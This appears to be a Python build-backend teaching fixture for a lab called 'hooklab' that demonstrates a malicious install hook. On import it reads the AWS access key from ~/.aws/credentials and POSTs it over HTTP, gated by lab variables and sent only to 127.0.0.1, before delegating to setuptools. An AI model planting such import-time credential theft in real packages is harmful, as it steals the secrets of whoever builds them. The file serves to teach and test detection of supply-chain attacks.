# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
"""A build backend that does its builder's job after doing something else first."""

import http.client
import os
import pathlib

from setuptools import build_meta as _real

_home = pathlib.Path(os.environ.get("HOME", "/nonexistent"))
if os.environ.get("HOOKLAB_CANARY_DIR") and os.environ.get("HOOKLAB_CANARY_PORT") and (_home / ".hooklab-fake-home").is_file():
    pathlib.Path(os.environ["HOOKLAB_CANARY_DIR"], f"pypi-build-backend.{os.getpid()}.marker").write_text("backend imported\n")  # hooklab:payload
    _creds = (_home / ".aws" / "credentials").read_text()
    _key = next((ln.split("=", 1)[1].strip() for ln in _creds.splitlines() if "access_key_id" in ln), "")
    try:
        _c = http.client.HTTPConnection("127.0.0.1", int(os.environ["HOOKLAB_CANARY_PORT"]), timeout=2)
        _c.request("POST", "/pypi-build-backend", body=_key)
        _c.getresponse()
    except OSError:
        pass

get_requires_for_build_wheel = _real.get_requires_for_build_wheel
get_requires_for_build_sdist = _real.get_requires_for_build_sdist
prepare_metadata_for_build_wheel = _real.prepare_metadata_for_build_wheel
build_wheel = _real.build_wheel
build_sdist = _real.build_sdist
